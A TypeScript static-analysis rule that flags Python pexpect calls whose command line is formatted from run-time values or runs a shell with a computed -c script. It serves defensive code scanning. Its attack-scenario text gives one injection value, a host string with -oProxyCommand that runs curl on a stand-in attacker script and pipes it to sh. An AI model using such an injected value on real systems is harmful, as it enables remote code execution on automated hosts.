// pexpect-computed-command: pexpect.spawn/run with a command line built from run-time values.
import { isLiteralComposed } from '../../src/analysis/python/literal-text.js';
import { safeCallFor } from '../../src/analysis/python/safe-calls.js';
import { defineRule } from '../../src/analysis/rule.js';
import type { CallInfo } from '../../src/analysis/python/call-name.js';
import { isFormattedString } from '../../src/analysis/python/string-template.js';

const SPAWN_FNS = [
  'pexpect.spawn',
  'pexpect.spawnu',
  'pexpect.run',
  'pexpect.runu',
  'pexpect.popen_spawn.PopenSpawn',
  'pexpect.pty_spawn.spawn',
];
const SHELLS = /(^|\/)(ba|z|k|da)?sh$/;

export default defineRule({
  meta: {
    id: 'pexpect-computed-command',
    title: 'pexpect command built from run-time values',
    category: 'command-injection',
    cwe: ['CWE-78', 'CWE-88'],
    owasp: { '2021': ['A03:2021'], '2025': ['A05:2025'] },
    severity: 'medium',
    riskScore: 6,
    confidence: 'medium',
    threat: 'integrity',
    timeline: '7-days',
    technology: ['pexpect'],
    aliases: {},
    messages: {
      formatted:
        '`{{fn}}` runs a command line formatted from run-time values; a value with spaces or options changes what runs.',
      shell: '`{{fn}}` runs a shell with a computed `-c` script; interpolated input can inject commands.',
    },
    docs: {
      whatItDoes:
        'Flags `pexpect.spawn`/`run`/`PopenSpawn` when the command string is an f-string, `%`/`.format()` result or concatenation, and shells started with a computed `-c` script.',
      whyBad:
        'pexpect splits the command string itself, so interpolated values can add arguments and options; with `bash -c` they become shell code.',
      businessImpact:
        'Command or option injection on hosts automated with pexpect (network devices, SSH sessions, installers), often with stored credentials.',
      attackScenario:
        'An automation tool runs `pexpect.spawn(f"ssh {user}@{host}")`; a host value of `-oProxyCommand=curl evil.sh|sh x` runs the attacker\'s command.',
      example: 'child = pexpect.spawn(f"ssh {user}@{host}")',
      useInstead: 'child = pexpect.spawn("ssh", ["--", f"{user}@{host}"])  # after validating host',
      testing: 'Call the code with a host that starts with `-o` and assert it is rejected or passed after `--`.',
      references: [
        'https://pexpect.readthedocs.io/en/stable/api/pexpect.html#spawn-class',
        'https://cwe.mitre.org/data/definitions/88.html',
      ],
    },
  },
  hints: ['PopenSpawn', 'pexpect', 'pty_spawn'],
  create(ctx) {
    // Values quoted for the shell (`shlex.quote`) or numbers formatted in carry no shell syntax.
    const quoted = safeCallFor(['command'], (node) => ctx.qualifiedName(node));
    const check = (call: CallInfo) => {
      const command = call.argOrKwarg(0, 'command') ?? call.argOrKwarg(0, 'cmd');
      if (!command) return;
      const fn = call.name ?? 'pexpect.spawn';
      const program = ctx.staticString(command);
      if (program !== undefined) {
        const args = call.argOrKwarg(1, 'args');
        const items = args?.type === 'list' ? args.namedChildren.filter((c) => c?.type !== 'comment') : [];
        const dashC = items.findIndex((c) => ctx.staticString(c) === '-c');
        const script = dashC >= 0 ? items[dashC + 1] : undefined;
        if (SHELLS.test(program) && script && ctx.staticString(script) === undefined) {
          ctx.report({ node: call.node, messageId: 'shell', data: { fn }, severity: 'high' });
        }
        return;
      }
      if (isFormattedString(ctx, command) && !isLiteralComposed(command, { safeCall: quoted }))
        ctx.report({ node: call.node, messageId: 'formatted', data: { fn } });
    };
    return { calls: Object.fromEntries(SPAWN_FNS.map((fn) => [fn, check])) };
  },
});
